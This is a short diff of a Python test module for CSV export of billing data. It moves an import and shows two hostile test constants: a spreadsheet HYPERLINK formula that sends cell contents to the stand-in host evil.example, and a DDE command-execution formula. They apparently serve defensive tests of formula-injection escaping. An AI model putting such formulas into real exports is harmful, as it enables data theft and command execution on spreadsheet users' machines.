@@ -15,8 +15,8 @@ from hypothesis import strategies as st
 from tests.conftest import AwsWorld
 from usage_pricing.spend.exports import FORMULA_TRIGGERS, csv_cell, csv_text
 
+from .analytics_helpers import NOW, Analytics
 from .billing_helpers import completed
-from .test_analytics import NOW, Analytics
 
 HOSTILE_VERSION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 HOSTILE_MODEL = "=cmd|' /C calc'!A0"
